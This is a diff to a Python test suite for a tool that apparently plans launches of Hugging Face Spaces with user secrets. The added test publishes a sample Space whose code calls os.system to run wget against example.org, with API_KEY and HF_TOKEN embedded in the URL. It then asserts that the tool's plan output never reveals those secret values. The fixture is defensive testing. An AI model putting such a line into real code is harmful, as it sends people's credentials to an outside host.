@@ -124,6 +124,24 @@ def test_a_missing_secret_ends_the_launch_before_anything_is_installed(hub: Hub,
         assert get(launched.data["url"]) == (200, b"abc")
 
 
+def test_no_secret_that_is_given_is_shown(hub: Hub, hub_command: Command) -> None:
+    hub.add_token("hf_usertoken000000", "someone")
+    code = (
+        b"import os\nfrom huggingface_hub import InferenceClient\nkey = os.environ['API_KEY']\n"
+        b"os.system(f'wget https://example.org/{key}/x.zip?t={os.environ[\"HF_TOKEN\"]}')\n"
+        b"InferenceClient('owner/' + key)\n"
+    )
+    hub.publish("owner/discreet", space(code))
+    options = ("--env", "API_KEY=quite-secret", "--pass-token")
+    for output in ((), ("--json",)):
+        done = hub_command.run(
+            "plan", "owner/discreet", *options, *output, HF_TOKEN="hf_usertoken000000", COLUMNS="200"
+        )
+        assert done.code == 0, done.err
+        assert "wget https://example.org/" in done.out
+        assert not re.search("quite-secret|hf_usertoken", done.out + done.err)
+
+
 def test_the_token_that_is_passed_on_is_not_missing(hub: Hub, hub_command: Command) -> None:
     hub.add_token("hf_usertoken000000", "someone")
     hub.publish("owner/token", space(b"import os\nANSWER = str(len(os.environ['HF_TOKEN']))\n" + SERVE))
@@ -148,7 +166,7 @@ def test_a_person_is_asked_for_a_missing_secret_and_it_is_not_shown(hub: Hub, hu
                 shown += os.read(main, 4096).decode(errors="replace")
             except OSError:
                 break
-        if "Its value:" in shown and not answered:
+        if "Its value: " in shown and not answered:  # the blank comes once the terminal shows nothing typed
             os.write(main, b"typed-secret\n")
             answered = True
     if process.poll() is None:
